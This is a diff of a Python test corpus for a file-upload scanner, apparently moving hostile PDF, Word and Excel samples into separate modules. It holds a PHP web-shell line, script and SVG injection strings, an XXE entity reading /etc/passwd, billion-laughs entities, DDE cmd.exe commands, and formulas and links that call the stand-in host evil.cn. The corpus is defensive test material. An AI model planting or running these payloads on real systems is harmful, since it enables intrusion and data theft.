@@ -5,36 +5,23 @@ A verdict is "in", or the code of the refusal. The files are made here, none lie
 
 import gzip
 import tarfile
-from collections.abc import Callable, Iterator
-from dataclasses import dataclass
+from collections.abc import Iterator
 from io import BytesIO
 
 import pikepdf
 from PIL import Image
 
 from tests.uploads import making as make
-from tests.uploads.making import WORD, action, docx, field, link, pdf, picture, xlsx, zipped
+from tests.uploads.corpus_office import excel_bombs, excel_files, word_archives, word_files
+from tests.uploads.corpus_pdf import active_pdfs
+from tests.uploads.making import action, docx, field, link, pdf, picture, xlsx, zipped
+from tests.uploads.sample import Sample
 
 HTML = b"<!doctype html><html><script>alert(1)</script></html>"
 SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
 PHP = b"<?php system($_GET['c']); ?>"
-XXE = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
-LAUGHS = (
-    '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
-    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
-)
 PROGRAM = b"MZ" + b"\0" * 200
-Name, Dictionary, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array
-
-
-@dataclass(frozen=True)
-class Sample:
-    """One file of the corpus."""
-
-    what: str
-    name: str
-    content: Callable[[], bytes]
-    verdict: str
+Name, Array = pikepdf.Name, pikepdf.Array
 
 
 def _sound() -> Iterator[Sample]:
@@ -169,180 +156,15 @@ def _moving() -> bytes:
     return out.getvalue()
 
 
-def _pdfs() -> Iterator[Sample]:
-    script = action("/JavaScript", JS="app.alert(1)")
-    active: dict[str, Callable[[pikepdf.Pdf], None]] = {
-        "opens with a script": lambda it: it.Root.__setattr__("OpenAction", script),
-        "scripts by name": lambda it: it.Root.__setattr__(
-            "Names", Dictionary(JavaScript=Dictionary(Names=Array(["a", script])))
-        ),
-        "launches": lambda it: link(it, action("/Launch", F="cmd.exe")),
-        "script in a link": lambda it: link(it, script),
-        "file address": lambda it: link(it, action("/URI", URI="file:///etc/passwd")),
-        "sends a form": lambda it: link(it, action("/SubmitForm", F="https://evil.cn")),
-        "goes to another file": lambda it: link(it, action("/GoToR", F="\\\\evil\\share")),
-        "acts on a page": lambda it: it.pages[0].obj.__setattr__("AA", Dictionary(O=script)),
-        "acts in the catalogue": lambda it: it.Root.__setattr__("AA", Dictionary(WC=script)),
-        "carries a file": _attach,
-        "an XFA form": lambda it: it.Root.__setattr__(
-            "AcroForm", Dictionary(XFA=it.make_stream(b"<xdp/>"), Fields=Array([]))
-        ),
-        "rich media": lambda it: it.pages[0].obj.__setattr__(
-            "Annots", Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia)])
-        ),
-        "a chain of actions": lambda it: link(
-            it, action("/GoTo", D=Array([0, Name.Fit]), Next=script)
-        ),
-    }
-    for what, alter in active.items():
-        yield Sample(f"a PDF that {what}", "a.pdf", lambda alter=alter: pdf(alter), "active")
-    hidden = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
-    scripted = lambda it: link(it, action("/URI", URI="javascript:alert(1)"))  # noqa: E731
-    yield Sample("a script as an address", "a.pdf", lambda: pdf(scripted), "two_natures")
-    yield Sample("the same, packed", "a.pdf", lambda: pdf(scripted, **hidden), "active")
-    opening = active["opens with a script"]
-    yield Sample("a script in packed objects", "a.pdf", lambda: pdf(opening, **hidden), "active")
-    yield Sample("a script by an escaped name", "a.pdf", _escaped_name, "active")
-    locked = pikepdf.Encryption(owner="a", user="b")
-    yield Sample("a locked PDF", "a.pdf", lambda: pdf(encryption=locked), "encrypted")
-    owned = pikepdf.Encryption(owner="a", user="")
-    yield Sample("a restricted PDF", "a.pdf", lambda: pdf(encryption=owned), "encrypted")
-    yield Sample("half a PDF", "a.pdf", lambda: pdf()[:300], "damaged")
-    yield Sample("a PDF without a table", "a.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "damaged")
-    yield Sample("a PDF whose table lies", "a.pdf", _false_table, "damaged")
-    yield Sample("a PDF without pages", "a.pdf", _no_pages, "pages")
-
-
-def _attach(made: pikepdf.Pdf) -> None:
-    made.attachments["a.exe"] = PROGRAM
-
-
-def _escaped_name() -> bytes:
-    """A script whose name is written with codes, which every reader turns back."""
-    opening = action("/JavaScript", JS="app.alert(1)")
-
-    def alter(made: pikepdf.Pdf) -> None:
-        made.Root.OpenAction = opening
-
-    whole = pdf(alter, stream_decode_level=pikepdf.StreamDecodeLevel.none)
-    place = whole.index(b"/JavaScript")
-    table = whole.index(b"xref")
-    # The blanks make up for the longer name, so that the table of places stays true.
-    grown = whole[:place] + b"/J#61vaScript" + whole[place + 11 : table]
-    return grown.replace(b" >>", b">>", 2) + whole[table:]
-
-
-def _false_table() -> bytes:
-    return pdf().replace(b"startxref\n", b"startxref\n9")
-
-
-def _no_pages() -> bytes:
-    out = BytesIO()
-    pikepdf.new().save(out)
-    return out.getvalue()
-
-
-def _word() -> Iterator[Sample]:
-    macro = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
-    yield Sample("macros", "a.docx", lambda: docx(extra=dict(macro)), "active")
-    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
-    yield Sample("a docm by another name", "a.docx", lambda: docx(main=enabled), "active")
-    template = f"{WORD}.template.main+xml"
-    yield Sample("a template", "a.docx", lambda: docx(main=template), "active")
-    yield Sample("outside entity", "a.docx", lambda: docx(doctype=XXE), "xml_entities")
-    yield Sample("billion laughs", "a.docx", lambda: docx(doctype=LAUGHS), "xml_entities")
-    yield Sample("a DTD", "a.docx", lambda: docx(doctype="<!DOCTYPE w>"), "xml_entities")
-    yield Sample("DDE", "a.docx", lambda: docx(field(r'DDEAUTO c:\\cmd.exe "/k calc"')), "active")
-    yield Sample("DDE in pieces", "a.docx", lambda: docx(field("DD", "EAU", "TO cmd")), "active")
-    simple = '<w:p><w:fldSimple w:instr=" DDE cmd "/></w:p>'
-    yield Sample("DDE as an attribute", "a.docx", lambda: docx(simple), "active")
-    fetch = field('INCLUDEPICTURE "https://evil.cn/a.png"')
-    yield Sample("a picture from outside", "a.docx", lambda: docx(fetch), "active")
-    outside = {
-        "a template from outside": ("attachedTemplate", "https://evil.cn/a.dotm"),
-        "an object from outside": ("oleObject", "https://evil.cn/a.doc"),
-        "a picture relation from outside": ("image", "https://evil.cn/a.png"),
-        "a frame from outside": ("frame", "https://evil.cn/"),
-        "a share of a network": ("hyperlink", "file://evil/share"),
-        "a script as a link": ("hyperlink", "javascript:alert(1)"),
-    }
-    for what, (kind, target) in outside.items():
-        rels = {"word/_rels/document.xml.rels": make.relations((kind, target, "External"))}
-        yield Sample(what, "a.docx", lambda rels=rels: docx(extra=dict(rels)), "active")
-    carried = {
-        "an object": "word/embeddings/oleObject1.bin",
-        "ActiveX": "word/activeX/activeX1.xml",
-        "an archive": "word/media/a.zip",
-        "a document": "word/embeddings/a.docx",
-        "a page": "word/afchunk.html",
-        "a program": "word/media/a.exe",
-    }
-    for what, part in carried.items():
-        extra: dict[str, bytes | str] = {part: b"<x/>"}
-        yield Sample(f"carries {what}", "a.docx", lambda extra=extra: docx(extra=extra), "active")
-    hidden: dict[str, bytes | str] = {"word/media/image1.png": PROGRAM}
-    yield Sample("a program as its picture", "a.docx", lambda: docx(extra=dict(hidden)), "active")
-    climbing: dict[str, bytes | str] = {"../../evil.xml": "<x/>"}
-    yield Sample("a part that climbs", "a.docx", lambda: docx(extra=dict(climbing)), "damaged")
-    yield Sample("a symbolic link", "a.docx", make.symlink_archive, "damaged")
-    yield Sample("a name twice", "a.docx", make.twice_named, "damaged")
-    yield Sample("an encrypted part", "a.docx", lambda: make.encrypted_flag(docx()), "encrypted")
-    yield Sample("half an archive", "a.docx", lambda: docx()[:400], "damaged")
-    broken = docx("<w:unclosed>")
-    yield Sample("broken XML", "a.docx", lambda: broken, "damaged")
-
-
-def _excel() -> Iterator[Sample]:
-    call = "=cmd|'/c calc'!A0"
-    yield Sample("DDE in a formula", "a.xlsx", lambda: xlsx(call), "active")
-    fetch = '=WEBSERVICE("https://evil.cn/"&A1)'
-    yield Sample("a formula that fetches", "a.xlsx", lambda: xlsx(1, fetch), "active")
-    parts: dict[str, bytes | str] = {
-        "xl/vbaProject.bin": b"x",
-        "xl/externalLinks/externalLink1.xml": "<x/>",
-        "xl/connections.xml": "<x/>",
-        "xl/macrosheets/sheet1.xml": "<x/>",
-        "xl/embeddings/oleObject1.bin": b"x",
-        "customUI/customUI.xml": "<x/>",
-    }
-    for part, content in parts.items():
-        extra = {part: content}
-        yield Sample(
-            f"carries {part}",
-            "a.xlsx",
-            lambda extra=extra: make.with_parts(xlsx(), extra),
-            "active",
-        )
-    yield Sample(
-        "outside entity",
-        "a.xlsx",
-        lambda: make.with_parts(xlsx(), {"xl/x.xml": f"{XXE}<a/>"}),
-        "xml_entities",
-    )
-    bomb: dict[str, bytes | str] = {
-        "xl/worksheets/sheet2.xml": b"<a>" + b" " * 100_000_000 + b"</a>"
-    }
-    yield Sample(
-        "97 kB that become 100 MB", "a.xlsx", lambda: make.with_parts(xlsx(), bomb), "bomb"
-    )
-    liar = {"xl/media/image1.png": b"\0" * 3_000_000}
-    yield Sample(
-        "a part that is larger than it says",
-        "a.xlsx",
-        lambda: make.lying_size(make.with_parts(xlsx(), dict(liar)), "xl/media/image1.png", 1000),
-        "damaged",
-    )
-    many: dict[str, bytes | str] = {f"xl/media/{number}.png": b"x" for number in range(2100)}
-    yield Sample("too many parts", "a.xlsx", lambda: make.with_parts(xlsx(), many), "bomb")
-
-
 CORPUS: list[Sample] = [
     *_sound(),
     *_not_taken(),
     *_disguised(),
     *_two_natures(),
     *_pictures(),
-    *_pdfs(),
-    *_word(),
-    *_excel(),
+    *active_pdfs(),
+    *word_files(),
+    *word_archives(),
+    *excel_files(),
+    *excel_bombs(),
 ]
